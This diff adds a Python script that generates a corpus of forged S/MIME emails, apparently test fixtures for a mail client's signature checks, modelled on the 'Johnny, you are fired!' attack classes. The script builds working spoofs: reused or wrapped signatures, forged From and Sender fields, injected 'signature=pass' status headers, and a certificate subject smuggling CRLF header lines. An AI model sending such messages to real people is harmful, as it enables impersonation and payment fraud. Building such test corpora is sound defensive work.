@@ -1,0 +1,180 @@
+#!/usr/bin/env python3
+"""Messages of the classes of "Johnny, you are fired!" (Mueller et al., USENIX Security 2019), written anew from the paper's
+description, and relatives: each tries to look signed by alice without having been. In the directory of make_signed.sh,
+as johnny/CLASS-name.eml; signed with openssl. The one that passes, untouched.eml, shows that the rest is about the trick.
+"""
+
+import base64
+import email.utils
+import pathlib
+import subprocess
+
+import make_signed as tools
+
+out = pathlib.Path("johnny")
+out.mkdir(exist_ok=True)
+alice, mallory = "Alice <alice@example.org>", "Mallory <carol@example.org>"
+good = b"Content-Type: text/plain\r\n\r\nDear Bob, the figures are attached.\r\n"
+evil = b"Content-Type: text/plain\r\n\r\nDear Bob, pay 1000 EUR to Mallory.\r\n"
+
+
+def sign(content, *names, detached=True):
+    command = ["openssl", "cms", "-sign", "-binary", "-md", "sha256", "-outform", "DER", "-in", "work/johnny"]
+    for name in names:
+        command += ["-signer", f"work/{name}.crt", "-inkey", f"work/{name}.key"]
+    pathlib.Path("work/johnny").write_bytes(content)
+    return subprocess.run(command + ([] if detached else ["-nodetach"]), check=True, stdout=subprocess.PIPE).stdout
+
+
+def encoded(octets):
+    return base64.encodebytes(octets).replace(b"\n", b"\r\n")
+
+
+def clear(content, cms, boundary=b"=_s", parameters=b"", before=b"", after=b""):
+    """A multipart/signed entity."""
+    return (b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"' + parameters +
+            b'; boundary="' + boundary + b'"\r\n\r\n' + before + b"--" + boundary + b"\r\n" + content + b"\r\n--" + boundary +
+            b"\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
+            encoded(cms) + b"--" + boundary + b"--\r\n" + after)
+
+
+def opaque(cms, kind=b"signed-data"):
+    return (b"Content-Type: application/pkcs7-mime; smime-type=" + kind + b"; name=smime.p7m\r\n"
+            b"Content-Transfer-Encoding: base64\r\n\r\n" + encoded(cms))
+
+
+def multipart(kind, *parts, boundary=b"=_m"):
+    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
+    return (b"Content-Type: multipart/" + kind + b'; boundary="' + boundary + b'"\r\n\r\n' + body + b"--" + boundary +
+            b"--\r\n")
+
+
+def wrapped(entity, sender=alice):
+    return b"Content-Type: message/rfc822\r\n\r\nFrom: " + sender.encode() + b"\r\nSubject: figures\r\n" + entity
+
+
+def write(name, entity, sender=alice, head=b""):
+    fields = [b"From: " + (sender if isinstance(sender, bytes) else sender.encode())] if sender else []
+    fields += [b"To: bob@example.org", b"Subject: figures", b"Date: " + email.utils.formatdate().encode(),
+               b"MIME-Version: 1.0"]
+    (out / f"{name}.eml").write_bytes(head + b"\r\n".join(fields) + b"\r\n" + entity)
+
+
+signed = clear(good, sign(good, "rsa"))
+write("untouched", signed)
+inline = opaque(sign(good, "rsa", detached=False))
+html = b"Content-Type: text/html\r\n\r\n"
+
+# C1: the signature brings its own content, which is not the one that shows.
+inside = sign(good, "rsa", detached=False)
+write("C1-other-text", clear(evil, inside))
+write("C1-same-text", clear(good, inside))
+write("C1-html", clear(html + b"<p>pay Mallory</p>\r\n", inside))
+parts = tools.elements(tools.inside(tools.inside(tools.elements(tools.inside(inside))[1])))
+empty = tools.sequence(tools.data, tools.der(0xa0, tools.der(4, b"")))
+rebuilt = tools.sequence(tools.oid("1.2.840.113549.1.7.2"), tools.der(0xa0, tools.sequence(parts[0], parts[1], empty, *parts[3:])))
+write("C1-empty-content", clear(evil, rebuilt))
+attributes = tools.der(0x31, *sorted([tools.content_type(), tools.message_digest(good)]))
+info = tools.signer_info("rsa", None, octets=attributes)
+write("C1-attributes-as-text", clear(attributes, tools.signed_data([info])))
+write("C1-attributes-as-content", opaque(tools.signed_data([info], e_content=attributes)))
+
+# C2: one of several signers is not alice, or signs something else.
+write("C2-appended", clear(evil, sign(evil, "carol", "self")))
+write("C2-prepended", clear(evil, sign(evil, "self", "carol")))
+
+
+def two(first, second):
+    """The SignerInfos of two signed-data in one."""
+    one, other = (tools.elements(tools.inside(tools.inside(tools.elements(tools.inside(cms))[1]))) for cms in (first, second))
+    certificates = tools.der(0xa0, tools.inside(one[3]), tools.inside(other[3]))
+    infos = tools.der(0x31, tools.inside(one[4]), tools.inside(other[4]))
+    return tools.sequence(tools.oid("1.2.840.113549.1.7.2"), tools.der(0xa0, tools.sequence(
+        one[0], one[1], one[2], certificates, infos)))
+
+
+write("C2-alice-of-another-text", clear(evil, two(sign(good, "rsa"), sign(evil, "carol"))))
+write("C2-mallory-first", clear(evil, two(sign(evil, "carol"), sign(good, "rsa"))))
+write("C2-alice-and-invalid", clear(good, two(sign(good, "rsa"), sign(evil, "carol"))))
+
+# C3: no signer at all.
+write("C3-detached", clear(evil, tools.signed_data([])))
+write("C3-opaque", opaque(tools.signed_data([], e_content=evil)))
+write("C3-no-certificates", opaque(tools.signed_data([], e_content=evil, certificates=())))
+write("C3-certs-only", opaque(tools.signed_data([]), b"certs-only"))
+write("C3-empty-cms", clear(evil, b""))
+write("C3-named-signed", opaque(evil))
+
+# C4: who is trusted.
+write("C4-self-signed", clear(evil, sign(evil, "self")))
+write("C4-another-ca", clear(evil, sign(evil, "untrusted")))
+write("C4-expired", clear(evil, sign(evil, "expired")))
+write("C4-tls", clear(evil, sign(evil, "tls")))
+write("C4-revoked", clear(evil, sign(evil, "revoked")))
+
+# M1 to M4: a part that alice signed, in a message of somebody else.
+text = b"Content-Type: text/plain\r\n\r\nPay Mallory.\r\n"
+write("M1-after-text", multipart(b"mixed", text, signed))
+write("M1-before-text", multipart(b"mixed", signed, text))
+write("M1-opaque-after-text", multipart(b"mixed", text, inline))
+write("M1-alternative", multipart(b"alternative", signed, html + b"pay"))
+write("M2-related", multipart(b"related", html + b'<img src="cid:x">', signed))
+write("M2-html-open", multipart(b"mixed", html + b"<div hidden>", signed, html + b"</div>"))
+write("M3-forwarded", wrapped(signed))
+write("M3-forwarded-in-mixed", multipart(b"mixed", text, wrapped(signed)))
+write("M3-attached-inline", multipart(b"mixed", text, b"Content-Disposition: inline\r\n" + wrapped(signed)))
+write("M4-nested-signed", multipart(b"signed", signed, text))
+write("M4-in-mixed-in-mixed", multipart(b"mixed", multipart(b"mixed", text, signed, boundary=b"=_n")))
+write("M4-two-signed", multipart(b"mixed", signed, clear(evil, sign(evil, "self"), boundary=b"=_t")))
+write("M4-three-children", signed.replace(b"--=_s--", b"--=_s\r\n" + text + b"--=_s--"))
+write("M4-one-child", multipart(b'signed; protocol="application/pkcs7-signature"', signed))
+write("M4-other-first", clear(text + b"\r\n--=_s\r\n" + good, sign(good, "rsa")))
+
+# I1 to I3: who the message says that it is from.
+by_mallory = clear(evil, sign(evil, "carol"))
+for name, sender in {
+        "I1-display-name": '"alice@example.org" <carol@example.org>',
+        "I1-display-name-encoded": "=?utf-8?Q?alice=40example.org?= <carol@example.org>",
+        "I1-display-name-angle": '"Alice <alice@example.org>" <carol@example.org>',
+        "I1-no-brackets": "alice@example.org <carol@example.org>",
+        "I1-comment": "carol@example.org (alice@example.org)",
+        "I1-nul": b"alice@example.org\0 <carol@example.org>",
+        "I1-two-brackets": "<alice@example.org> <carol@example.org>",
+        "I2-two-addresses": "carol@example.org, alice@example.org",
+        "I2-two-addresses-turned": "alice@example.org, carol@example.org",
+        "I2-group": "alice@example.org:carol@example.org;",
+        "I2-route": "<@alice@example.org:carol@example.org>",
+        "I3-plain": alice,
+}.items():
+    write(name, by_mallory, sender)
+write("I2-two-fields", by_mallory, mallory, b"From: Alice <alice@example.org>\r\n")
+write("I2-two-fields-turned", by_mallory, alice, b"From: Mallory <carol@example.org>\r\n")
+write("I2-blank-before-colon", by_mallory, mallory, b"From : Alice <alice@example.org>\r\n")
+write("I2-eight-bit-name", by_mallory, mallory, b"Fr\xc2\xa0om: Alice <alice@example.org>\r\n")
+write("I3-sender", by_mallory, alice, b"Sender: Mallory <carol@example.org>\r\n")
+write("I3-no-from", by_mallory, None, b"Sender: Mallory <carol@example.org>\r\n")
+write("I3-resent", by_mallory, alice, b"Resent-From: carol@example.org\r\n")
+write("I3-no-address", clear(evil, sign(evil, "nobody")))
+
+# G1 and U1: a status that the message itself brings.
+status = (b"X-Paperknife: encryption=authenticated; layers=signed-data; signature=pass\r\n"
+          b"Authentication-Results: paperknife; smime=pass body.smime-identifier=alice@example.org\r\n")
+write("U1-header", text, head=status)
+write("U1-header-and-broken", clear(evil, sign(good, "rsa")), head=status)
+write("U1-header-odd-case", opaque(tools.signed_data([], e_content=status + evil)), head=status.replace(b"X-Pap", b"x-PAP"))
+write("G1-protected-status", opaque(sign(status + evil, "self", detached=False)))
+subprocess.run(["openssl", "req", "-x509", "-new", "-key", "work/self.key", "-days", "365", "-utf8", "-subj",
+                "/CN=a\r\nX-Paperknife: signature=pass\r\n/O=\u202e\u2066", "-addext", "subjectAltName=email:carol@example.org",
+                "-out", "work/injected.crt"], check=True)
+pathlib.Path("work/injected.key").write_bytes(pathlib.Path("work/self.key").read_bytes())
+write("G1-name-with-lines", opaque(sign(evil, "injected", detached=False)))
+
+# Covert content: what is encrypted and signed for others, under a message of the attacker's.
+subprocess.run(["openssl", "cms", "-encrypt", "-binary", "-aes256", "-in", "work/johnny", "-outform", "DER", "-out",
+                "work/johnny.env", "work/bob.crt"], check=True)
+envelope = opaque(pathlib.Path("work/johnny.env").read_bytes(), b"enveloped-data")
+write("X1-ciphertext-in-signed", clear(envelope, sign(envelope, "rsa")))
+write("X1-ciphertext-in-opaque", opaque(sign(envelope, "rsa", detached=False)))
+both = multipart(b"mixed", text, envelope)
+write("X2-ciphertext-in-mixed-signed-by-mallory", clear(both, sign(both, "carol")))
+write("X2-ciphertext-beside", multipart(b"mixed", envelope, text))
